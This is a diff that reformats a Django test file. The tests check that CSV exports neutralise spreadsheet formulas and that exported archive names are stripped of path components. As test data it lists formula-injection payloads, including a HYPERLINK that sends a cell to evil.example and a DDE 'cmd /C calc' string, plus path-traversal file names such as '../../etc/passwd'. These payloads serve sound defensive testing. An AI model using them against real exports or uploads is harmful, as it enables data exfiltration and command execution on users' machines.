@@ -20,8 +20,14 @@ from tests.cast import cast_build
 
 pytestmark = pytest.mark.django_db
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
@@ -91,24 +97,28 @@ def test_the_settlement_export_writes_an_enterprise_formula_as_text(cast):
     Enterprise.objects.filter(pk=cast.enterprise_a.pk).update(name="=1+1")
     today = timezone.localdate()
     quarter = (today.month - 1) // 3 + 1
-    r = _client(cast.user("admin")).get(reverse("vouchers:settlement"),
-                                          {"year": today.year, "quarter": quarter, "format": "detail"})
+    r = _client(cast.user("admin")).get(
+        reverse("vouchers:settlement"), {"year": today.year, "quarter": quarter, "format": "detail"}
+    )
     assert r.status_code == 200
     rows = _csv_rows(r)
     assert [row[3] for row in rows[1:]] == ["'=1+1"]
     assert rows[1][6] == "1000.00"
 
 
-@pytest.mark.parametrize("name,expected", [
-    ("../../etc/passwd", "etc_passwd"),
-    ("..\\..\\windows\\win.ini", "windows_win.ini"),
-    ("C:\\temp\\a.pdf", "C_temp_a.pdf"),
-    ("..", "file"),
-    (".hidden", "hidden"),
-    ("a\x00b\nc.pdf", "abc.pdf"),
-    ("", "file"),
-    ("穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf", "穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf"),
-])
+@pytest.mark.parametrize(
+    "name,expected",
+    [
+        ("../../etc/passwd", "etc_passwd"),
+        ("..\\..\\windows\\win.ini", "windows_win.ini"),
+        ("C:\\temp\\a.pdf", "C_temp_a.pdf"),
+        ("..", "file"),
+        (".hidden", "hidden"),
+        ("a\x00b\nc.pdf", "abc.pdf"),
+        ("", "file"),
+        ("穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf", "穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf"),
+    ],
+)
 def test_archive_names_are_plain_file_names(name, expected):
     from portal.exports import archive_name
 
@@ -119,8 +129,9 @@ def test_the_letters_zip_holds_no_path_in_its_names(cast):
     from reviews.models import Letter
 
     Letter.objects.filter(pk=cast.letter.pk).update(addressee_name="../../../tmp/evil/广州甲")
-    r = _client(cast.user("admin")).post(reverse("reviews:letters_batch"),
-                                         {"action": "zip", "letters": [cast.letter.pk]})
+    r = _client(cast.user("admin")).post(
+        reverse("reviews:letters_batch"), {"action": "zip", "letters": [cast.letter.pk]}
+    )
     assert r.status_code == 200
     archive = zipfile.ZipFile(io.BytesIO(b"".join(r.streaming_content)))
     names = archive.namelist()
